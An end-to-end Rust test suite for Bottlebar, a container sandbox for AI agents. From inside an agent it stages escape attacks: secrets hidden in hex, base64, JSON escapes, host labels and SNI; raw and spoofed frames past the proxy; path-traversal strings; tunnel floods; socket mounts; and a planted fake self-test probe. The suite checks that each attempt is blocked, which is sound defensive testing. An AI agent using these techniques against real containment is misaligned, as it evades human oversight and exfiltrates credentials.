//! The escape suite, part two: the classes found by attacking a real bottle
//! around its allowlist (issue 10). Same rules as `escape_e2e.rs`: every
//! attack is made from inside a real agent (or its network namespace),
//! paired with controls proving it could be attempted; a success or an
//! attack that could not be attempted fails the test. Results feed
//! `docs/security.md`.
//!
//! Helpers that need more than the agent has (raw frames, a sniffer, a
//! forwarding router for the control) are the project's own test kit in
//! containers on this machine, driven through Docker directly.

use bottlebar_e2e::escape::*;
use bottlebar_e2e::testkit::server::sha256_hex;
use bottlebar_e2e::*;
use serde_json::Value;
use std::time::Duration;

fn deny_code(v: &Value) -> String {
    v["headers"]
        .as_array()
        .into_iter()
        .flatten()
        .find(|h| h[0] == "x-bottlebar-deny")
        .and_then(|h| h[1].as_str())
        .unwrap_or("")
        .to_string()
}

fn denied_with(v: &Value, code: &str) -> bool {
    status(v) == 403 && deny_code(v) == code
}

/// The secret as hex, the way an agent hides it in a host label.
fn hex(s: &str) -> String {
    s.bytes().map(|b| format!("{b:02x}")).collect()
}

/// Output of a shell script in the agent that talks to its proxy by hand.
fn raw_to_proxy(f: &Fixture, request: &str) -> String {
    f.sh(&format!(
        "host=${{HTTP_PROXY#http://}}; (printf '{request}'; sleep 2) | nc -w 5 ${{host%:*}} ${{host##*:}}"
    ))
    .stdout
}

#[test]
fn attack_9_credentials_in_the_clear_reflected_or_spread() {
    let f = fixture("e2e-esc9");
    let mut a = Attack::new(
        9,
        "Credential injection over plain HTTP, reflected back, or spread by a wildcard",
    );
    let real = sha256_hex(format!("Bearer {SECRET}").as_bytes());
    // Controls: the credential is injected upstream, and the upstream echoes
    // the request's headers back (so a reflection would reach the agent).
    let ok = f.fetch(&format!("-H 'X-Probe: visible-123' https://{ALLOWED}/echo"));
    let echoed: Value = serde_json::from_str(ok["body"].as_str().unwrap_or("")).unwrap_or_default();
    a.control(
        echoed["header_sha256"]["authorization"] == serde_json::json!([real]),
        "the upstream receives the real credential over verified TLS",
    );
    a.control(
        echoed["headers"]["x-probe"] == serde_json::json!(["visible-123"]),
        "the upstream echoes request headers back",
    );
    for (what, args) in [
        ("HTTP/1.1", format!("https://{ALLOWED}/echo")),
        ("HTTP/2", format!("--http2 https://{ALLOWED}/echo")),
        (
            "gzip-compressed",
            format!("'https://{ALLOWED}/echo?gzip=1'"),
        ),
        (
            "HTTP/2 and gzip",
            format!("--http2 'https://{ALLOWED}/echo?gzip=1'"),
        ),
    ] {
        let v = f.fetch(&args);
        a.blocked(
            status(&v) == 200 && !v.to_string().contains(SECRET),
            format!("the echoed credential read back by the agent ({what}, body and headers)"),
        );
    }
    let trace = f.fetch(&format!("-X TRACE https://{ALLOWED}/echo"));
    a.blocked(
        denied_with(&trace, "trace_refused"),
        "TRACE to the injecting host",
    );
    // Plain HTTP, absolute form: refused, the credential never sent.
    let plain = f.fetch(&format!("http://{ALLOWED}/echo"));
    a.blocked(
        denied_with(&plain, "injection_needs_tls") && !plain.to_string().contains(&real),
        "the credential over plain HTTP (absolute-form http://)",
    );
    // A tunnel to port 80 whose first bytes are plain HTTP.
    let tunnel80 = raw_to_proxy(
        &f,
        &format!("CONNECT {ALLOWED}:80 HTTP/1.1\\r\\n\\r\\nGET /echo HTTP/1.1\\r\\nHost: {ALLOWED}\\r\\nConnection: close\\r\\n\\r\\n"),
    );
    a.blocked(
        tunnel80.contains("injection_needs_tls") && !tunnel80.contains(&real),
        "the credential through CONNECT :80 with plain HTTP inside",
    );
    // A tunnel to port 443 whose first bytes are plain HTTP: the port
    // decides, so the upstream leg is TLS and the credential is never in
    // the clear (the upstream's digest shows it arrived, over TLS).
    let tunnel443 = raw_to_proxy(
        &f,
        &format!("CONNECT {ALLOWED}:443 HTTP/1.1\\r\\n\\r\\nGET /echo HTTP/1.1\\r\\nHost: {ALLOWED}\\r\\nConnection: close\\r\\n\\r\\n"),
    );
    a.control(
        tunnel443.contains(&f.token),
        "a plain request inside CONNECT :443 reaches the upstream",
    );
    a.blocked(
        tunnel443.contains(&real) && !tunnel443.contains(SECRET),
        "the credential in the clear through CONNECT :443 with plain HTTP inside",
    );
    // `inject` on a wildcard rule: refused before anything exists.
    let h = Harness::new();
    h.write_bottle(
        "e2e-esc9w",
        "[agent]\ntemplate = \"busybox\"\n[secrets.api]\nenv = \"BOTTLEBAR_ESCAPE_API_KEY\"\n[[egress]]\nhost = \"*.wild.bottlebar.test\"\ninject = { header = \"authorization\", secret = \"api\" }\n",
    );
    let r = h.bottle(&["up", "e2e-esc9w"]);
    a.blocked(
        !r.ok()
            && r.stderr
                .contains("would send the credential to every subdomain")
            && labelled("e2e-esc9w") == (vec![], vec![]),
        "a manifest injecting a credential on a `*.` rule",
    );
    a.finish();
}

#[test]
fn attack_10_reaching_the_sidecars_private_state() {
    let f = fixture("e2e-esc10");
    let mut a = Attack::new(
        10,
        "Mounting Bottlebar's home or an engine socket; rewriting the rules; faking the self-test",
    );
    a.control(
        status(&f.fetch(&format!("https://{ALLOWED}/"))) == 200,
        "a bottle with an ordinary directory mount launches",
    );
    // Mounts that overlap the home (a parent: the common `$HOME` mount),
    // the home itself, an engine socket's directory, `/`.
    let home = f.h.home.path().to_path_buf();
    let parent = home.parent().unwrap().to_path_buf();
    for (what, host) in [
        (
            "a parent of the Bottlebar home",
            parent.display().to_string(),
        ),
        ("the Bottlebar home", home.display().to_string()),
        (
            "the bottle's own state directory",
            f.h.state_dir(&f.name).display().to_string(),
        ),
        (
            "/var/run (the Docker socket's directory)",
            "/var/run".into(),
        ),
        ("/", "/".into()),
    ] {
        let name = "e2e-esc10m";
        f.h.write_bottle(
            name,
            &format!("[agent]\ntemplate = \"busybox\"\n[[mounts]]\nhost = \"{host}\"\ncontainer = \"/x\"\n"),
        );
        let r = f.h.bottle(&["up", name]);
        a.blocked(
            !r.ok() && r.stderr.contains("cannot be mounted") && labelled(name) == (vec![], vec![]),
            format!("mounting {what} into the agent"),
        );
    }
    // The rules file rewritten (as an agent with a stray mount would):
    // the sidecar does not read it again.
    let rules = f.h.state_dir(&f.name).join("sidecar/sidecar.json");
    let mut cfg: Value = serde_json::from_slice(&std::fs::read(&rules).unwrap()).unwrap();
    cfg["rules"] = serde_json::json!([{"host": DENIED}, {"host": ALLOWED}]);
    std::fs::write(&rules, cfg.to_string()).unwrap();
    a.control(
        std::fs::read_to_string(&rules).unwrap().contains(DENIED),
        "the rules file can be rewritten",
    );
    std::thread::sleep(Duration::from_millis(2000));
    a.blocked(
        refused(&f.fetch(&format!("https://{DENIED}/"))),
        "a host added by rewriting the sidecar's rules file",
    );
    // The old self-test ran a probe from the agent's filesystem: put a fake
    // one where it was; `bottle verify` must run the real one regardless.
    let fake = r#"{"paths":[],"proxy_ok":true,"proxy_detail":"ok","elapsed_ms":1}"#;
    let planted = f.sh(&format!(
        "mkdir -p /.bottlebar/probe && printf '#!/bin/sh\\necho %s\\n' '{fake}' > /.bottlebar/probe/bottlebar-sidecar && chmod +x /.bottlebar/probe/bottlebar-sidecar && /.bottlebar/probe/bottlebar-sidecar"
    ));
    a.control(
        planted.stdout.contains("proxy_ok"),
        "a fake probe can be planted in the agent and runs",
    );
    let v = f.h.bottle(&["verify", &f.name, "--json"]);
    let rec: Value = serde_json::from_str(v.stdout.trim()).unwrap_or_default();
    let paths = rec["report"]["paths"].as_array().map(Vec::len).unwrap_or(0);
    let gateways = rec["report"]["gateways"]
        .as_array()
        .map(Vec::len)
        .unwrap_or(0);
    // The real probe judged the agent's gateways and waited at least for
    // ARP (docs/security.md, "How long it takes"); the fake says 1 ms.
    a.blocked(
        v.ok()
            && paths >= 10
            && gateways >= 1
            && rec["report"]["elapsed_ms"].as_u64().unwrap_or(0) >= 100,
        format!("faking the self-test from inside the agent (real probe tried {paths} paths)"),
    );
    a.finish();
}

/// A MAC address from Docker's own view of a container (for one the
/// engine under test made, pass its [`netns_owner`]).
fn mac(container: &str, network: &str) -> String {
    let v: Value =
        serde_json::from_str(&docker(&["inspect", container]).stdout).unwrap_or_default();
    v[0]["NetworkSettings"]["Networks"][network]["MacAddress"]
        .as_str()
        .unwrap_or("")
        .to_string()
}

fn docker_ip(container: &str, network: &str) -> String {
    let v: Value =
        serde_json::from_str(&docker(&["inspect", container]).stdout).unwrap_or_default();
    v[0]["NetworkSettings"]["Networks"][network]["IPAddress"]
        .as_str()
        .unwrap_or("")
        .to_string()
}

/// The test kit as a Docker image (for helpers run with Docker directly).
fn helper_image() -> &'static str {
    static BUILT: std::sync::OnceLock<()> = std::sync::OnceLock::new();
    const IMAGE: &str = "bottlebar-test/raw-helper:1";
    BUILT.get_or_init(|| {
        let ctx = tempfile::tempdir().unwrap();
        std::fs::copy(testkit_bin(), ctx.path().join("bottlebar-testkit")).unwrap();
        std::fs::write(
            ctx.path().join("Dockerfile"),
            "FROM scratch\nCOPY bottlebar-testkit /bottlebar-testkit\nENTRYPOINT [\"/bottlebar-testkit\"]\n",
        )
        .unwrap();
        docker(&["build", "-q", "--label", TEST_LABEL, "-t", IMAGE, &ctx.path().display().to_string()])
            .expect_ok("building the raw-frame helper");
    });
    IMAGE
}

/// Removes the helper containers when the attack ends.
struct Helpers(Vec<String>);

impl Drop for Helpers {
    fn drop(&mut self) {
        for n in &self.0 {
            let _ = docker(&["rm", "-f", n]);
        }
    }
}

#[test]
fn attack_11_packets_around_the_proxy() {
    let f = fixture("e2e-esc11");
    let e = engine();
    let mut a = Attack::new(
        11,
        "Raw frames (802.1Q-tagged and untagged) through the sidecar onto the egress network",
    );
    let (agent, sidecar) = (f.agent(), format!("bottlebar-{}-sidecar", f.name));
    let internal = format!("bottlebar-{}-internal", f.name);
    let pid = std::process::id();
    let router = format!("bottlebar-test-router-{pid}");
    let sniffer = format!("bottlebar-test-sniffer-{pid}");
    let _helpers = Helpers(vec![router.clone(), sniffer.clone()]);
    let image = helper_image();
    let upstream_ip = docker_ip(&netns_owner(&f.upstream.name), &f.egress());
    let agent_ip = docker_ip(&netns_owner(&agent), &internal);
    let sidecar_mac = mac(&netns_owner(&sidecar), &internal);
    a.control(
        !upstream_ip.is_empty() && !agent_ip.is_empty() && !sidecar_mac.is_empty(),
        "the upstream, the agent and the sidecar's MAC are known",
    );
    // From the agent itself: no raw sockets at all.
    let from_agent = f.sh(&format!(
        "/opt/testkit/bottlebar-testkit rawframe --dst-mac {sidecar_mac} --src-ip {agent_ip} --dst-ip {upstream_ip} --dst-port 9 --vlan 0 2>&1"
    ));
    a.blocked(
        from_agent.stdout.contains("Operation not permitted"),
        "opening a raw packet socket in the agent (NET_RAW)",
    );
    // Everything else is sent from a helper with NET_RAW in the agent's
    // network namespace: what an agent that regained the capability could do.
    docker(&[
        "run",
        "-d",
        "--name",
        &sniffer,
        "--label",
        TEST_LABEL,
        "--network",
        &format!("container:{}", netns_owner(&f.upstream.name)),
        "--cap-add",
        "NET_RAW",
        image,
        "sniff",
        "--marker",
        "bbm-",
        "--syn-port",
        "9777",
        "--seconds",
        "40",
    ])
    .expect_ok("starting the sniffer");
    wait_until(
        Duration::from_secs(10),
        || docker(&["logs", &sniffer]).stdout.contains("watching"),
        "the sniffer never started",
    );
    // The control: a router (forwarding on) on both networks, as the
    // sidecar was before; a tagged frame through it reaches the upstream.
    docker(&[
        "run",
        "-d",
        "--name",
        &router,
        "--label",
        TEST_LABEL,
        "--network",
        &f.egress(),
        "--sysctl",
        "net.ipv4.ip_forward=1",
        image,
        "idle",
    ])
    .expect_ok("starting the control router");
    docker(&["network", "connect", &internal, &router]).expect_ok("connecting the router");
    let router_mac = mac(&router, &internal);
    let send = |dst_mac: &str, extra: &str| {
        docker(
            &[
                "run",
                "--rm",
                "--network",
                &format!("container:{}", netns_owner(&agent)),
                "--cap-add",
                "NET_RAW",
                image,
                "rawframe",
                "--dst-mac",
                dst_mac,
                "--dst-ip",
                &upstream_ip,
                "--dst-port",
                "9777",
            ]
            .iter()
            .map(|s| s.to_string())
            .chain(extra.split_whitespace().map(String::from))
            .collect::<Vec<_>>()
            .iter()
            .map(String::as_str)
            .collect::<Vec<_>>(),
        )
    };
    let spoofed = {
        // An address of the egress subnet, as if the frame came from there.
        let mut o: Vec<u8> = upstream_ip
            .split('.')
            .filter_map(|x| x.parse().ok())
            .collect();
        if let Some(last) = o.last_mut() {
            *last = last.wrapping_add(100);
        }
        o.iter().map(u8::to_string).collect::<Vec<_>>().join(".")
    };
    let sent_control = send(
        &router_mac,
        &format!("--src-ip {agent_ip} --vlan 0 --payload bbm-control"),
    );
    a.control(
        sent_control.stdout.contains("sent"),
        format!(
            "a helper in the agent's namespace can send raw frames ({})",
            sent_control.stderr.trim()
        ),
    );
    let attempts = [
        (
            "a UDP datagram, untagged",
            format!("--src-ip {agent_ip} --payload bbm-untagged"),
        ),
        (
            "a UDP datagram, 802.1Q VID 0",
            format!("--src-ip {agent_ip} --vlan 0 --payload bbm-vid0"),
        ),
        (
            "a UDP datagram, 802.1Q VID 0, spoofed egress-subnet source",
            format!("--src-ip {spoofed} --vlan 0 --payload bbm-spoofed"),
        ),
        (
            "a TCP SYN, 802.1Q VID 0",
            format!("--src-ip {agent_ip} --vlan 0 --syn"),
        ),
        ("a TCP SYN, untagged", format!("--src-ip {agent_ip} --syn")),
    ];
    for (_, extra) in &attempts {
        send(&sidecar_mac, extra).expect_ok("sending a frame");
    }
    std::thread::sleep(Duration::from_millis(1500));
    let seen = docker(&["logs", &sniffer]).stdout;
    a.control(
        seen.contains("UDP bbm-control"),
        "a tagged frame through a forwarding router reaches the upstream (the sniffer sees it)",
    );
    for (what, extra) in &attempts {
        let arrived = if extra.contains("--syn") {
            // A SYN through the router would show as `SYN 9777`; none is sent there.
            seen.contains("SYN 9777")
        } else {
            let marker = extra.rsplit("--payload ").next().unwrap_or("");
            seen.contains(&format!("UDP {marker}"))
        };
        a.blocked(
            !arrived,
            format!("{what} to the sidecar's MAC, for the upstream"),
        );
    }
    // The sidecar's own state: forwarding off, no capabilities, read-only, not root.
    let forwarding = docker(&[
        "run",
        "--rm",
        "--network",
        &format!("container:{}", netns_owner(&sidecar)),
        upstream_image(),
        "cat",
        "/proc/sys/net/ipv4/ip_forward",
    ]);
    a.blocked(
        forwarding.stdout.trim() == "0",
        "IP forwarding in the sidecar's namespace",
    );
    let inspect = |name: &str| -> Value {
        serde_json::from_str::<Value>(&docker(&["inspect", name]).stdout).unwrap_or_default()[0]
            .clone()
    };
    let (ag, sc) = (inspect(&agent), inspect(&sidecar));
    let caps = |v: &Value, k: &str| v["HostConfig"][k].to_string();
    a.blocked(
        caps(&ag, "CapDrop").contains("ALL") && !caps(&ag, "CapAdd").contains("NET_RAW"),
        "the agent holding NET_RAW",
    );
    if !e.is_apple() {
        a.blocked(
            ag["HostConfig"]["SecurityOpt"]
                .to_string()
                .contains("no-new-privileges"),
            "the agent gaining privileges through setuid binaries",
        );
    }
    a.blocked(
        caps(&sc, "CapDrop").contains("ALL")
            && sc["HostConfig"]["ReadonlyRootfs"] == true
            && !matches!(
                sc["Config"]["User"].as_str(),
                None | Some("") | Some("0") | Some("root")
            ),
        "the sidecar running as root, writable, or with capabilities",
    );
    a.finish();
}

#[test]
fn attack_12_secrets_hidden_from_the_scanner() {
    let f = fixture("e2e-esc12");
    let mut a = Attack::new(
        12,
        "A secret in the method, header names, host name, SNI, or layered encodings",
    );
    // The agent holds no real credential; it exfiltrates one it found
    // (an AWS key in the workspace), and the bottle's own secret shape is
    // tried too (as if it had been reflected to it).
    let token = "AKIAIOSFODNN7EXAMPLE";
    let hx = hex(SECRET);
    use base64::Engine as _;
    let b64 = base64::engine::general_purpose::STANDARD.encode(format!("{{\"key\":\"{SECRET}\"}}"));
    let wrap = |w: usize| -> String {
        b64.as_bytes()
            .chunks(w)
            .map(|c| std::str::from_utf8(c).unwrap())
            .collect::<Vec<_>>()
            .join("\\n")
    };
    let mixed: String = hx
        .chars()
        .enumerate()
        .map(|(i, c)| {
            if i % 3 == 0 {
                c.to_ascii_uppercase()
            } else {
                c
            }
        })
        .collect();
    let partly = format!("%{:02x}{}", SECRET.as_bytes()[0], &SECRET[1..]);
    let json_u: String = SECRET
        .chars()
        .map(|c| format!("\\u{:04x}", c as u32))
        .collect();
    let token_b64 = base64::engine::general_purpose::STANDARD.encode(format!("aws={token}"));
    let (first, second) = SECRET.split_at(SECRET.len() / 2);
    a.control(
        status(&f.fetch(&format!(
            "-X POST --data hello -H 'X-Note: hello' https://{WILD}/echo"
        ))) == 200,
        "the same requests without a secret pass",
    );
    let cases: Vec<(&str, String)> = vec![
        ("the method", format!("-X {hx} https://{WILD}/echo")),
        ("a header name", format!("-H '{hx}: 1' https://{WILD}/echo")),
        (
            "mixed-case hex in the path",
            format!("https://{WILD}/echo/{mixed}"),
        ),
        (
            "partly percent-encoded query",
            format!("'https://{WILD}/echo?k={partly}'"),
        ),
        (
            "split across two headers",
            format!("-H 'X-A: {first}' -H 'X-B: {second}' https://{WILD}/echo"),
        ),
        (
            "a token inside a base64 header",
            format!("-H 'X-T: {token_b64}' https://{WILD}/echo"),
        ),
        (
            "base64 wrapped at 9 columns",
            format!(
                "-X POST --data \"$(printf '{}')\" https://{WILD}/echo",
                wrap(9)
            ),
        ),
        (
            "base64 wrapped at 76 columns",
            format!(
                "-X POST --data \"$(printf '{}')\" https://{WILD}/echo",
                wrap(76)
            ),
        ),
        (
            "JSON \\u escapes",
            format!("-X POST --data '{{\"k\":\"{json_u}\"}}' https://{WILD}/echo"),
        ),
        (
            "a gzip-compressed body",
            format!("-X POST --gzip --data 'k={SECRET}' https://{WILD}/echo"),
        ),
        (
            "a token inside a base64 body",
            format!("-X POST --data 'v={token_b64}' https://{WILD}/echo"),
        ),
    ];
    for (what, args) in &cases {
        let v = f.fetch(args);
        a.blocked(
            denied_with(&v, "secret_detected"),
            format!("the secret in {what}"),
        );
    }
    // The host: a hex label of an allowed wildcard (CONNECT and absolute
    // form), refused before the name is looked up anywhere.
    let label = &hx[..60];
    let v = f.fetch(&format!(
        "https://{label}.{}.wild.bottlebar.test/",
        &hx[60..]
    ));
    a.blocked(
        denied_with(&v, "secret_detected"),
        "the secret as labels of a `*.` host (CONNECT)",
    );
    let v = f.fetch(&format!(
        "http://{label}.{}.wild.bottlebar.test/",
        &hx[60..]
    ));
    a.blocked(
        denied_with(&v, "secret_detected"),
        "the secret as labels of a `*.` host (absolute form)",
    );
    let v = f.fetch(&format!(
        "--sni {label}.wild.bottlebar.test https://{WILD}/"
    ));
    a.blocked(refused(&v), "the secret in the TLS server name");
    let logs = f.h.bottle(&["logs", &f.name, "--json"]).stdout;
    a.blocked(
        !logs.contains(SECRET) && !logs.contains(&hx) && !logs.contains(token),
        "the secret in the audit log",
    );
    a.finish();
}

#[test]
fn attack_13_limits_parsing_and_the_egress_side() {
    let extra = format!("\n[[egress]]\nhost = \"{PATHS}\"\npaths = [\"/echo\"]\n");
    let f = fixture_with("e2e-esc13", "template = \"busybox\"", None, &extra);
    let e = engine();
    let mut a = Attack::new(
        13,
        "Stalled tunnels, path-rule tricks, odd request forms, private answers, the egress side",
    );
    // 1100 half-open tunnels (CONNECT and one TLS byte), then a real request.
    let flood = f.sh(&format!(
        "/opt/testkit/bottlebar-testkit flood --count 1100 --target {ALLOWED}:443 --url https://{ALLOWED}/ --wait 15"
    ));
    let v: Value = serde_json::from_str(flood.stdout.trim()).unwrap_or_default();
    a.control(
        v["opened"].as_u64() == Some(1100),
        format!("1100 stalled tunnels opened ({})", flood.stdout.trim()),
    );
    a.blocked(
        v["fetch_status"] == 200 && v["fetch_ms"].as_u64().unwrap_or(u64::MAX) < 5000,
        "starving the proxy with 1100 stalled tunnels (a real request still served in < 5 s)",
    );
    a.blocked(
        v["closed"].as_u64() == v["opened"].as_u64(),
        "holding stalled tunnels open past the handshake timeout",
    );
    // Path rules.
    a.control(
        status(&f.fetch(&format!("https://{PATHS}/echo/x"))) == 200,
        "the path rule allows /echo/x",
    );
    for path in [
        "/echo-admin",
        "/echo.bak",
        "/echo/..;/admin",
        "/echo/.;/admin",
        "/echo/%252e%252e/admin",
    ] {
        let v = f.fetch(&format!("'https://{PATHS}{path}'"));
        a.blocked(
            denied_with(&v, "path_not_allowed"),
            format!("{path} past the rule for /echo"),
        );
    }
    // Absolute-form https:// (busybox wget's way through a proxy): served,
    // with the proxy originating verified TLS.
    let wget = f.sh(&format!("wget -q -O - https://{ALLOWED}/ 2>&1"));
    a.control(
        wget.stdout.contains(&f.token),
        "busybox wget https:// through the proxy works",
    );
    // Malformed requests: refused, and audited like every refusal.
    let _ = raw_to_proxy(&f, "GARBAGE\\r\\n\\r\\n");
    let logs = f.h.bottle(&["logs", &f.name, "--json"]).stdout;
    a.blocked(
        logs.contains("\"bad_request\""),
        "a malformed request leaving no audit line",
    );
    // A name allowed but not pinned, resolving to a private address (the
    // engine's DNS gives the upstream container's): refused.
    if e.is_apple() {
        // Apple's sidecar resolves through the host's resolvers, which know
        // no test names; the same code is shown on docker.
    } else {
        let name = f.upstream.name.clone();
        let mut text = f.manifest.replace(
            "[hosts]",
            &format!("[[egress]]\nhost = \"{name}\"\n\n[hosts]"),
        );
        f.h.write_bottle(&f.name, &text);
        f.h.up(&f.name)
            .0
            .expect_ok("allowing the upstream by its container name");
        let v = f.fetch(&format!("http://{name}/"));
        a.blocked(
            denied_with(&v, "private_address"),
            "an allowed name that resolves to a private address",
        );
        let subnet = {
            let ip = docker_ip(&netns_owner(&name), &f.egress());
            let o: Vec<&str> = ip.split('.').collect();
            format!("{}.{}.{}.0/24", o[0], o[1], o[2])
        };
        text = format!("allow_private_ranges = [\"{subnet}\"]\n{text}");
        f.h.write_bottle(&f.name, &text);
        f.h.up(&f.name).0.expect_ok("allowing the egress range");
        a.control(
            status(&f.fetch(&format!("http://{name}/"))) == 200,
            "the same name with its range allowed explicitly is served",
        );
    }
    // The proxy on the egress side: from this host and from a container on
    // the egress network, the sidecar's egress address takes no connection.
    let sidecar = format!("bottlebar-{}-sidecar", f.name);
    let egress_ip = e.ip(&sidecar, &f.egress());
    let from_host = std::net::TcpStream::connect_timeout(
        &format!("{egress_ip}:3128").parse().unwrap(),
        Duration::from_secs(2),
    );
    a.control(
        matches!(&from_host, Err(err) if err.kind() == std::io::ErrorKind::ConnectionRefused)
            || from_host.is_ok(),
        "the sidecar's egress address is reachable from the host",
    );
    a.blocked(
        from_host.is_err(),
        format!("the proxy from this host at {egress_ip}:3128"),
    );
    a.blocked(
        !tcp_opens_from(&f.egress(), &egress_ip, 3128),
        format!("the proxy from another container on the egress network at {egress_ip}:3128"),
    );
    a.control(
        status(&f.fetch(&format!("https://{ALLOWED}/"))) == 200,
        "the agent still reaches the proxy on its own network",
    );
    a.finish();
}
